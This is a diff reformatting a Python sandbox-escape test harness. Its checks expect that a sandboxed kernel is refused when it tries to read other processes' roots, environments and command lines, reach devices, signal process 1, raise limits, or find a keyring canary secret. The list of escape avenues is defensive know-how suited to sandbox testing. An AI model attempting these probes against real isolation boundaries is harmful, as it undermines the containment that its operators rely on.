-    and got["1"]["list"] in REFUSED and (got["1"]["fds"] == [] or got["1"]["fds"] in REFUSED),
-    "dotdot": lambda got: got == [False] * 3, "devices": lambda got: got.pop("listed") == [] and refused(got),
-    "environments": lambda got: list(got) == ["1"] and got["1"]["environ"] in REFUSED and got["1"]["cmdline"] == "nothing",
+    "roots_of_other_processes": lambda got: (
+        list(got) == ["1"]
+        and not (got["1"]["root"] or got["1"]["cwd"])
+        and got["1"]["list"] in REFUSED
+        and (got["1"]["fds"] == [] or got["1"]["fds"] in REFUSED)
+    ),
+    "dotdot": lambda got: got == [False] * 3,
+    "devices": lambda got: got.pop("listed") == [] and refused(got),
+    "environments": lambda got: (
+        list(got) == ["1"] and got["1"]["environ"] in REFUSED and got["1"]["cmdline"] == "nothing"
+    ),
     "own_environment": lambda got: got == ["nothing"] * 2,
     "command_lines": lambda got: list(got) == ["1"] and got["1"][1:] == ["-I", "-B", "inside", ""],
     "forged_notes": lambda got: got == "sent",
-    "sizes": lambda got: got.keys() == ROOM.keys() and all(
-        ROOM[path] in (None, size) and (files <= 200_000 or kind != "tmpfs") for path, (kind, size, files) in got.items()),
+    "sizes": lambda got: (
+        got.keys() == ROOM.keys()
+        and all(
+            ROOM[path] in (None, size) and (files <= 200_000 or kind != "tmpfs")
+            for path, (kind, size, files) in got.items()
+        )
+    ),
     "writable_places": lambda got: all(path.startswith(tuple(ROOM)) for path in got),
     "own_log": lambda got: refused([got["truncate"], got["seek"], got["read"]]) and got["place"].startswith("pipe:"),
-    # Without root the kernel is the same user as process 1, which does nothing but wait. A signal does not reach it; a limit may.
+    # Without root the kernel is the same user as process 1, which does nothing but wait. A signal does not reach it; a
+    # limit may.
     "higher_limits": lambda got: isinstance(got.pop("limits of 1"), (str, list)) and refused(got),
-    "signals_to_process_1": lambda got: got["state"] == "S", "processor_time_of_process_1": lambda got: got in ("EPERM", "limited"),
-    "output": lambda got: refused([got["hard"], got["hard script"], got["device"]]), "deep_output": lambda got: got == "made",
-}  # fmt: skip
+    "signals_to_process_1": lambda got: got["state"] == "S",
+    "processor_time_of_process_1": lambda got: got in ("EPERM", "limited"),
+    "output": lambda got: refused([got["hard"], got["hard script"], got["device"]]),
+    "deep_output": lambda got: got == "made",
+}
 
 
 def refused(got: Any) -> bool:
@@ -684,15 +891,26 @@ def refused(got: Any) -> bool:
 
 
 def plan(file: Path, source: Path) -> str:
-    """What the kernel must know of the machine: a file that it must not reach, and where the file lies that is its input."""
+    """What the kernel must know of the machine: a file that it must not reach, and where the file lies that is its
+    input.
+    """
     facts = source.stat()
-    return json.dumps({"file": str(file), "inode": facts.st_ino, "disk": [os.major(facts.st_dev), os.minor(facts.st_dev)]})
+    return json.dumps(
+        {"file": str(file), "inode": facts.st_ino, "disk": [os.major(facts.st_dev), os.minor(facts.st_dev)]}
+    )
 
 
 def plant_key() -> None:
     """Put the secret into the session keyring of this process, which children inherit."""
     with contextlib.suppress(OSError):
-        call("add_key", ctypes.c_char_p(b"user"), ctypes.c_char_p(KEY.encode()), ctypes.c_char_p(SECRET.encode()), len(SECRET), -3)
+        call(
+            "add_key",
+            ctypes.c_char_p(b"user"),
+            ctypes.c_char_p(KEY.encode()),
+            ctypes.c_char_p(SECRET.encode()),
+            len(SECRET),
+            -3,
+        )
 
 
 def surprises(log: str) -> list[str]:
@@ -708,7 +926,7 @@ def main() -> None:
     for name, function in PROBES.items():
         try:
             got = attempt(function)
-        except Exception as error:  # noqa: BLE001  one probe that breaks must not spare the sandbox the others
+        except Exception as error:
             got = f"{type(error).__name__}: {error}"
         print(json.dumps({"probe": name, "got": got}), flush=True)
     time.sleep(0.5)  # for what comes later than its cause
